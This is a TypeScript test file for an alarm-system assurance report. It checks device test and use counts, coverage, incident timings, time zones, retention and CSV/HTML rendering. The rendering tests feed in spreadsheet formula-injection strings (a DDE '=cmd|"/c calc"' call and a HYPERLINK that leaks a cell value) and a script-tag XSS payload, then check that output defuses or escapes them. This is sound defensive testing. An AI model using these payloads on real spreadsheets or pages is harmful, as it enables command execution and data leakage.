import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { renderReportCsv } from '../../../adapters/api/report/report-csv.js';
import { renderReportHtml } from '../../../adapters/api/report/report-html.js';
import { readReport, renderReportText } from '../../../adapters/cli/commands/report-action.js';
import { HISTORY_RETENTION_MS } from '../../../src/assurance/assurance.js';
import { buildReport, MAX_REPORT_DAYS, periodProblem, type AssuranceReport } from '../../../src/assurance/report.js';
import { AssuranceStore } from '../../../src/assurance/store.js';
import { settingsSchema } from '../../../src/settings/settings.js';
import { sitesSchema } from '../../../src/settings/sites.js';
import { cid, DAY, harness, INSTALLER, MINUTE, operator, SITES } from '../../helpers/assurance-harness.js';

const SECOND = 1_000;

/**
 * Twenty days at bank-1 (starting Monday 2024-01-01 09:00 UTC): zone-5 walk-tested in a window on day 1, pressed
 * for real on day 10 (delivered after 3 s, acknowledged after 60 s), then left alone.
 */
async function twentyDays(store = AssuranceStore.open(':memory:')) {
  const h = harness({ store, autoDeliver: false, centralOutputs: ['cms'] });
  const window = h.assurance.startWindow({ site: 'bank-1', minutes: 10, devices: ['zone-5'] }, INSTALLER);
  if (!window.ok) throw new Error(window.message);
  await h.receive(cid('130', 5));
  h.clock.advance(10 * MINUTE);
  await h.tick();
  h.clock.advance(9 * DAY - 10 * MINUTE);
  const holdup = await h.receive(cid('122', 5));
  h.clock.advance(3 * SECOND);
  h.assurance.delivered('cms', holdup);
  h.clock.advance(57 * SECOND);
  h.assurance.acknowledge(holdup.incident!, operator('duty officer'), 'Police on site, all well <b>');
  h.clock.advance(11 * DAY);
  return { h, holdup };
}

describe('the assurance report', () => {
  it('counts each device\'s tests, uses, missed tests and overdue days in the period, in the site\'s days', async () => {
    const { h } = await twentyDays();
    const report = buildReport(h.store, { site: SITES[0]!, period: { from: '2024-01-01', to: '2024-01-20' }, now: h.clock.now() });
    expect(report.devices.map((d) => [d.device, d.tests, d.uses, d.missedTests, d.overdueDays])).toEqual([
      ['zone-5', 1, 1, 0, 6], // overdue at the end of Jan 8, 9, 17, 18, 19, 20 (7d after the test, then after the use)
      ['zone-9', 0, 0, 0, 0], // 30d: not due yet
      ['user-12', 0, 0, 0, 0],
      ['door-lobby-2', 0, 0, 0, 0],
    ]);
    expect(report.devices[0]!.lastProvenAt).toBe('2024-01-10T09:00:00.000Z');
    expect(report.windows).toEqual({ opened: 1, scheduled: 0 });

    const later = buildReport(h.store, { site: SITES[0]!, period: { from: '2024-01-11', to: '2024-01-20' }, now: h.clock.now() });
    expect(later.devices[0]).toMatchObject({ tests: 0, uses: 0, overdueDays: 4 });
    expect(later.incidents).toEqual([]);
  });

  it('charts coverage for the 90 days ending with the period, a device covered while proven within its interval', async () => {
    const { h } = await twentyDays();
    const { coverage } = buildReport(h.store, { site: SITES[0]!, period: { from: '2024-01-01', to: '2024-01-20' }, now: h.clock.now() });
    expect(coverage).toHaveLength(90);
    expect(coverage[0]).toEqual({ date: '2023-10-23', covered: 0, total: 4 });
    const on = (date: string) => coverage.find((c) => c.date === date)!.covered;
    expect([on('2023-12-31'), on('2024-01-01'), on('2024-01-07'), on('2024-01-08'), on('2024-01-12'), on('2024-01-20')]).toEqual([0, 1, 1, 0, 1, 0]);
  });

  it('lists incidents with their times to delivery and to acknowledgement', async () => {
    const { h, holdup } = await twentyDays();
    const { incidents } = buildReport(h.store, { site: SITES[0]!, period: { from: '2024-01-01', to: '2024-01-20' }, now: h.clock.now() });
    expect(incidents).toEqual([
      {
        id: holdup.incident,
        category: 'holdup',
        openedAt: '2024-01-10T09:00:00.000Z',
        deliveredAt: '2024-01-10T09:00:03.000Z',
        acknowledgedAt: '2024-01-10T09:01:00.000Z',
        acknowledgedBy: 'duty officer',
        note: 'Police on site, all well <b>',
        secondsToDelivery: 3,
        secondsToAcknowledgement: 60,
      },
    ]);
  });

  it('takes days in the site time zone', async () => {
    const { h } = await twentyDays();
    const [tokyo] = sitesSchema.parse([{ ...SITES[0]!, timeZone: 'Asia/Tokyo', zones: [{ number: 5, name: 'Teller 1', type: 'holdup', testEvery: '7d' }], users: [], doors: [] }]);
    // 09:00 UTC on Jan 10 is 18:00 in Tokyo the same day; the day Jan 10 in Tokyo starts at 15:00 UTC on Jan 9.
    const day = buildReport(h.store, { site: tokyo!, period: { from: '2024-01-10', to: '2024-01-10' }, now: h.clock.now() });
    expect(day.devices[0]).toMatchObject({ uses: 1 });
    expect(buildReport(h.store, { site: tokyo!, period: { from: '2024-01-11', to: '2024-01-11' }, now: h.clock.now() }).devices[0]).toMatchObject({ uses: 0 });
  });

  it('keeps device history for HISTORY_RETENTION_MS, then forgets it (a stuck button cannot fill the disk for ever)', async () => {
    const { h } = await twentyDays();
    await h.tick();
    expect(h.store.history('bank-1', 0, h.clock.now())).toHaveLength(2);
    h.clock.advance(HISTORY_RETENTION_MS - 20 * DAY);
    await h.tick();
    expect(h.store.history('bank-1', 0, h.clock.now()).map((r) => r.kind)).toEqual(['use']); // the test of day 1 went first
    h.clock.advance(9 * DAY);
    await h.tick();
    expect(h.store.history('bank-1', 0, h.clock.now())).toEqual([]);
  });

  it('refuses periods that are not dates or run backwards', () => {
    expect(periodProblem({ from: '2024-02-30', to: '2024-03-01' })).toBe('from and to must be dates written YYYY-MM-DD');
    expect(periodProblem({ from: '2024-03-02', to: '2024-03-01' })).toBe('to must not be before from');
    expect(periodProblem({ from: '2024-03-01', to: '2024-03-01' })).toBeUndefined();
  });

  it('refuses a period longer than a year: its cost grows with its days, and anyone who may read asks for it', () => {
    expect(periodProblem({ from: '2024-01-01', to: '2024-12-31' })).toBeUndefined(); // a leap year, 366 days
    expect(periodProblem({ from: '2023-01-01', to: '2024-01-01' })).toBeUndefined();
    expect(periodProblem({ from: '2023-01-01', to: '2024-01-02' })).toBe(`a report covers at most ${MAX_REPORT_DAYS} days`);
    expect(periodProblem({ from: '0001-01-01', to: '9999-12-31' })).toBe(`a report covers at most ${MAX_REPORT_DAYS} days`);
  });
});

describe('report renderings', () => {
  let report: AssuranceReport;
  const dirs: string[] = [];
  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  it('CSV: one header per record kind, fields quoted, spreadsheet formulas defused', async () => {
    const { h } = await twentyDays();
    report = buildReport(h.store, { site: { ...SITES[0]!, name: '=HYPERLINK("x")' }, period: { from: '2024-01-01', to: '2024-01-20' }, now: h.clock.now() });
    const lines = renderReportCsv(report).split('\r\n');
    expect(lines[0]).toBe('record,site,from,to,generatedAt,timeZone');
    expect(lines[2]).toBe('record,device,kind,name,location,holder,tests,uses,missedTests,overdueDays,lastProvenAt');
    expect(lines[3]).toBe('device,zone-5,zone,Teller 1 hold-up button,,,1,1,0,6,2024-01-10T09:00:00.000Z');
    expect(lines.find((l) => l.startsWith('incident,'))).toMatch(/,duty officer,3,60,Police on site, all well <b>$|,duty officer,3,60,"Police on site, all well <b>"$/);
    expect(lines.filter((l) => l.startsWith('coverage,'))).toHaveLength(90);
    expect(renderReportCsv({ ...report, devices: [{ ...report.devices[0]!, name: '=cmd|"/c calc"!A1' }] })).toContain(`device,zone-5,zone,"'=cmd|""/c calc""!A1"`);
    // A spreadsheet set to split on ';' (German, French locales) starts a cell after each ';': defused there too.
    const semicolons = renderReportCsv({ ...report, devices: [{ ...report.devices[0]!, name: 'ok;=cmd|"/c calc"!A1; -2+3;@SUM(A1)' }] });
    expect(semicolons).toContain(`device,zone-5,zone,"ok;'=cmd|""/c calc""!A1; -2+3;'@SUM(A1)"`);
    // An operator's note is free text: a spreadsheet told to split on tabs (LibreOffice's import offers it) starts
    // a cell after each tab, whatever the quotes.
    const tabs = renderReportCsv({ ...report, incidents: [{ ...report.incidents[0]!, note: 'all well\t=HYPERLINK("http://x.invalid/?"&A1)' }] });
    expect(tabs).toContain(`,"all well\t'=HYPERLINK(""http://x.invalid/?""&A1)"`);
    const twoTabs = renderReportCsv({ ...report, incidents: [{ ...report.incidents[0]!, note: 'all well\t\t=1+1;;@A1' }] });
    expect(twoTabs).toContain(`,all well\t'\t'=1+1;;'@A1\r\n`);
  });

  it('HTML: self-contained and printable, with every configured text escaped', async () => {
    const { h } = await twentyDays();
    report = buildReport(h.store, { site: { ...SITES[0]!, name: '<script>alert(1)</script>' }, period: { from: '2024-01-01', to: '2024-01-20' }, now: h.clock.now() });
    const page = renderReportHtml(report);
    expect(page).not.toContain('<script>');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('Police on site, all well &lt;b&gt;');
    expect(page).toContain('@page { size: A4');
    expect(page).not.toMatch(/(src|href)="(https?:)?\/\//);
    expect(page.match(/<rect /g)).toHaveLength(90);
  });

  it('panelbridge report reads the ledger in dataDir: text, and a clear error for an unknown site', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'pb-report-'));
    dirs.push(dir);
    const { h } = await twentyDays(AssuranceStore.openIn(dir));
    h.store.flush();
    const settings = { ...settingsSchema.parse({ dataDir: dir, inputs: [], outputs: [{ type: 'stdout', name: 'out' }] }), sites: [SITES[0]!] };
    const result = readReport(settings, 'bank-1', { to: '2024-01-20' }, h.clock.now());
    if (!result.ok) throw new Error(result.message);
    expect(result.report.period).toEqual({ from: '2023-12-22', to: '2024-01-20' });
    const text = renderReportText(result.report);
    expect(text).toContain('site bank-1 (Bank branch 1), 2023-12-22 to 2024-01-20 (UTC)');
    expect(text).toMatch(/zone-5 +Teller 1 hold-up button +1 +1 +0 +6/);
    expect(text).toContain('delivered after 3 s, acknowledged after 60 s by duty officer');
    expect(readReport(settings, 'nowhere', {}, h.clock.now())).toEqual({ ok: false, message: 'no site "nowhere"; sites: bank-1' });
    expect(readReport(settings, 'bank-1', { from: 'yesterday' }, h.clock.now())).toMatchObject({ ok: false });
    h.store.close();
  });
});
